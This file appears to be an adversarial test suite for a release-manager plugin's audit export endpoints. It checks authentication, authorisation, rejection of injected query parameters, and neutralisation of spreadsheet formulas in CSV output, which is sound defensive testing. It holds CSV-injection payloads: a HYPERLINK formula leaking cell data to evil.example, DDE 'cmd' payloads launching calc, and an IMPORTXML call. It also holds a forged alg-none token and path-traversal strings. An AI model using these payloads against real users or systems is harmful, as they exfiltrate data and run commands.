// Adversarial cases of the auditor's export (issue 14 item 3; GET /audit/export and /audit/preview):
// the real plugins, catalog and permission policy (lib/backend.ts). Unauthenticated, forged and
// unknown callers, callers without the permission, a squad claimed by an artifact instead of owned
// in the catalog, query-parameter injection (format, dates, names with path characters, repeated
// and unknown parameters), ranges over the maximum: each a 4xx naming the reason, nothing written.
// Then what must come out right: spreadsheet formulas recorded in git (release reasons and a source
// author starting with = + - @) are neutralised in the CSV (a leading ') and kept as recorded in
// NDJSON; an export by squad follows the catalog's ownership, never the squad an artifact claims.
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { mockCredentials } from '@backstage/backend-test-utils';
import { startBackend } from '../lib/backend';
import { assert, check, errorMessage, freshDatabase, request } from '../lib/harness';
import { AUTH, Case, runCases, standardSnapshot } from '../lib/adversarial';
import { upload } from '../lib/fixtures';

const S = 'adversarial-audit';
const RM = '/api/release-manager';
const day = (offset: number) => new Date(Date.now() + offset * 86400_000).toISOString().slice(0, 10);
const RANGE = `from=${day(-30)}&to=${day(0)}`;

/** Reasons a spreadsheet would run as formulas (one release each). */
const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
/** A source author name that is a formula (artifact.json → source_author). */
const EVIL_AUTHOR = '=IMPORTXML("http://evil.example","//a")';

/** A CSV cell as RFC 4180 writes it (quoted when it holds a comma, a quote, CR or LF). */
const quoted = (s: string) => (/[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);

export default async function adversarialAudit() {
  const dataDir = await fs.mkdtemp(path.join(os.tmpdir(), 'rel-adv-audit-'));
  const db = await freshDatabase('rel_adv_audit');
  const { backend, url } = await startBackend({
    dataDir,
    dbPrefix: db.prefix,
    services: ['svc-00', 'svc-01'],
    extraConfig: {
      releaseManager: {
        environments: [{ name: 'dev' }, { name: 'staging' }, { name: 'prod', production: true, guardrails: { verifyBranch: false } }],
        audit: { maxRangeDays: 90 },
      },
    },
  });
  const configRemote = path.join(dataDir, 'git', 'config.git');
  const rmDb = db.knexFor(`${db.prefix}release-manager`);
  try {
    // history: four releases of svc-00 whose reasons are formulas; one artifact of svc-01 whose
    // author is a formula and which claims the squad 'lending' (the catalog says payments owns it)
    for (const [i, reason] of FORMULAS.entries()) {
      const a = upload('svc-00', 200 + i);
      const up = await request(url, 'POST', `${RM}/artifacts`, { auth: AUTH.owner, body: a.body });
      assert(up.status === 201, `setup upload: ${up.status} ${errorMessage(up)}`);
      const r = await request(url, 'POST', `${RM}/releases`, {
        auth: AUTH.owner,
        body: { service: 'svc-00', environment: 'dev', artifactId: a.id, reason },
      });
      assert(r.status === 200 && r.json?.changed, `setup release with reason ${reason}: ${r.status} ${errorMessage(r)}`);
    }
    const claim = upload('svc-01', 300);
    claim.body.spec.squad = 'lending';
    claim.body.spec.application.authorName = EVIL_AUTHOR;
    const up = await request(url, 'POST', `${RM}/artifacts`, { auth: AUTH.owner, body: claim.body });
    assert(up.status === 201, `setup upload: ${up.status} ${errorMessage(up)}`);
    const rel = await request(url, 'POST', `${RM}/releases`, {
      auth: AUTH.owner,
      body: { service: 'svc-01', environment: 'dev', artifactId: claim.id },
    });
    assert(rel.status === 200, `setup release: ${rel.status} ${errorMessage(rel)}`);

    const snapshot = standardSnapshot({ configRemote, rmDb });
    const exp = (q: string) => `${RM}/audit/export?${q}`;
    const intruder = mockCredentials.user.header('user:default/intruder');
    const cases: Case[] = [
      // who
      { name: 'anonymous', method: 'GET', path: exp(RANGE), auth: undefined, expect: 401 },
      { name: 'anonymous preview', method: 'GET', path: `${RM}/audit/preview?${RANGE}`, auth: undefined, expect: 401 },
      { name: 'forged token (alg none, claims platform)', method: 'GET', path: exp(RANGE), auth: 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ1c2VyOmRlZmF1bHQvcGF0In0.', expect: 401 },
      { name: 'unknown user (not in the catalog), all services', method: 'GET', path: exp(RANGE), auth: intruder, expect: 403 },
      { name: 'unknown user, a service', method: 'GET', path: exp(`${RANGE}&service=svc-00`), auth: intruder, expect: 403 },
      { name: 'lending member: payments service', method: 'GET', path: exp(`${RANGE}&service=svc-00`), auth: AUTH.nonOwner, expect: 403 },
      { name: 'lending member: squad payments', method: 'GET', path: exp(`${RANGE}&squad=payments`), auth: AUTH.nonOwner, expect: 403 },
      { name: 'lending member: preview of squad payments', method: 'GET', path: `${RM}/audit/preview?${RANGE}&squad=payments`, auth: AUTH.nonOwner, expect: 403 },
      { name: 'payments member: all services (platform only)', method: 'GET', path: exp(RANGE), auth: AUTH.owner, expect: 403 },
      // format
      { name: 'format: xlsx', method: 'GET', path: exp(`${RANGE}&format=xlsx`), auth: AUTH.platform, expect: 400 },
      { name: 'format: CRLF header injection', method: 'GET', path: exp(`${RANGE}&format=csv%0d%0aX-Injected:%201`), auth: AUTH.platform, expect: 400 },
      { name: 'format: given twice', method: 'GET', path: exp(`${RANGE}&format=csv&format=ndjson`), auth: AUTH.platform, expect: 400 },
      { name: 'format: as an array', method: 'GET', path: exp(`${RANGE}&format[]=csv`), auth: AUTH.platform, expect: 400 },
      // dates
      { name: 'from: SQL-ish', method: 'GET', path: exp(`from=2026-01-01'%20OR%201=1--&to=${day(0)}`), auth: AUTH.platform, expect: 400 },
      { name: 'to: 30 February', method: 'GET', path: exp('from=2026-02-01&to=2026-02-30'), auth: AUTH.platform, expect: 400 },
      { name: 'from: timestamp without a zone', method: 'GET', path: exp(`from=${day(-2)}T00:00&to=${day(0)}`), auth: AUTH.platform, expect: 400 },
      { name: 'from: year +275760 (beyond Date)', method: 'GET', path: exp(`from=%2B275760-09-13&to=${day(0)}`), auth: AUTH.platform, expect: 400 },
      { name: 'from after to', method: 'GET', path: exp(`from=${day(0)}&to=${day(-10)}`), auth: AUTH.platform, expect: 400 },
      { name: 'huge range: 1970 to today (over maxRangeDays 90)', method: 'GET', path: exp(`from=1970-01-01&to=${day(0)}`), auth: AUTH.platform, expect: 400 },
      { name: 'huge range: 91 days', method: 'GET', path: exp(`from=${day(-91)}&to=${day(0)}`), auth: AUTH.platform, expect: 400 },
      { name: 'huge range: the default 30 days before a far to', method: 'GET', path: exp('to=9999-12-31&from=0001-01-01'), auth: AUTH.platform, expect: 400 },
      // names with path characters
      { name: 'environment: ../../etc', method: 'GET', path: exp(`${RANGE}&environment=..%2F..%2Fetc`), auth: AUTH.platform, expect: 400 },
      { name: 'environment: unknown', method: 'GET', path: exp(`${RANGE}&environment=qa`), auth: AUTH.platform, expect: 400 },
      { name: 'environment: prod/releases', method: 'GET', path: exp(`${RANGE}&environment=prod%2Freleases`), auth: AUTH.platform, expect: 400 },
      { name: 'service: ../../etc/passwd', method: 'GET', path: exp(`${RANGE}&service=..%2F..%2Fetc%2Fpasswd`), auth: AUTH.platform, expect: 400 },
      { name: 'service: NUL byte', method: 'GET', path: exp(`${RANGE}&service=svc-00%00`), auth: AUTH.platform, expect: 400 },
      { name: 'service: glob', method: 'GET', path: exp(`${RANGE}&service=svc-*`), auth: AUTH.platform, expect: 400 },
      { name: 'service: 300 characters', method: 'GET', path: exp(`${RANGE}&service=${'a'.repeat(300)}`), auth: AUTH.platform, expect: 400 },
      { name: 'squad: payments/../lending', method: 'GET', path: exp(`${RANGE}&squad=payments%2F..%2Flending`), auth: AUTH.platform, expect: 400 },
      { name: 'service and squad together', method: 'GET', path: exp(`${RANGE}&service=svc-00&squad=payments`), auth: AUTH.owner, expect: 400 },
      { name: 'service given twice', method: 'GET', path: exp(`${RANGE}&service=svc-00&service=svc-01`), auth: AUTH.owner, expect: 400 },
      { name: 'unknown parameter (path)', method: 'GET', path: exp(`${RANGE}&path=..%2F..`), auth: AUTH.platform, expect: 400 },
      // preview paging
      { name: 'preview: limit 1000', method: 'GET', path: `${RM}/audit/preview?${RANGE}&limit=1000`, auth: AUTH.platform, expect: 400 },
      { name: 'preview: offset -1', method: 'GET', path: `${RM}/audit/preview?${RANGE}&offset=-1`, auth: AUTH.platform, expect: 400 },
      { name: 'preview: offset 99999999', method: 'GET', path: `${RM}/audit/preview?${RANGE}&offset=99999999`, auth: AUTH.platform, expect: 400 },
      { name: 'preview: offset 1e3', method: 'GET', path: `${RM}/audit/preview?${RANGE}&offset=1e3`, auth: AUTH.platform, expect: 400 },
    ];
    await runCases(S, url, cases, snapshot);

    await check(S, 'CSV neutralises formulas (= + - @) in reasons and the source author; NDJSON keeps them as recorded', async () => {
      const csv = await request(url, 'GET', exp(`${RANGE}&format=csv`), { auth: AUTH.platform });
      assert(csv.status === 200, `csv: ${csv.status} ${errorMessage(csv)}`);
      const nd = await request(url, 'GET', exp(`${RANGE}&format=ndjson`), { auth: AUTH.platform });
      assert(nd.status === 200, `ndjson: ${nd.status} ${errorMessage(nd)}`);
      const rows = nd.text.trim().split('\n').map(l => JSON.parse(l));
      for (const v of FORMULAS) {
        assert(rows.some(r => r.reason === v), `NDJSON lacks the reason as recorded: ${v}`);
        assert(csv.text.includes(`,${quoted(`'${v}`)},`), `CSV lacks the neutralised cell for ${v}`);
        assert(!csv.text.includes(`,${quoted(v)},`), `CSV carries the formula as is: ${v}`);
      }
      const author = rows.find(r => r.service === 'svc-01')?.source_author;
      assert(author?.startsWith(EVIL_AUTHOR), `NDJSON source_author: ${author}`);
      assert(csv.text.includes(`,${quoted(`'${author}`)},`), 'CSV lacks the neutralised source author');
      assert(!csv.text.includes(`,${quoted(author)},`), 'CSV carries the source author formula as is');
      return `${FORMULAS.length + 1} formulas neutralised in ${rows.length} rows`;
    });
    await check(S, "squad export follows the catalog, not the artifact's claimed squad", async () => {
      // svc-01's artifact claims 'lending'; the catalog says payments owns it
      const lending = await request(url, 'GET', exp(`${RANGE}&format=ndjson&squad=lending`), { auth: AUTH.nonOwner });
      assert(lending.status === 200, `lending: ${lending.status} ${errorMessage(lending)}`);
      assert(lending.text.trim() === '', `lending's export holds rows: ${lending.text.slice(0, 200)}`);
      const payments = await request(url, 'GET', exp(`${RANGE}&format=ndjson&squad=payments`), { auth: AUTH.owner });
      assert(payments.status === 200, `payments: ${payments.status} ${errorMessage(payments)}`);
      const services = new Set(payments.text.trim().split('\n').map(l => JSON.parse(l).service));
      assert(services.has('svc-01') && services.has('svc-00'), `payments' export: ${[...services]}`);
      const claimed = payments.text.trim().split('\n').map(l => JSON.parse(l)).find(r => r.service === 'svc-01');
      // the claim is reported as what the artifact says (squad column), the scope is the catalog's
      assert(claimed.squad === 'lending', `squad column: ${claimed.squad}`);
      return 'lending: 0 rows; payments: svc-00 and svc-01 (claim shown in the squad column)';
    });
  } finally {
    await backend.stop();
    await db.drop();
    await fs.rm(dataDir, { recursive: true, force: true });
  }
}
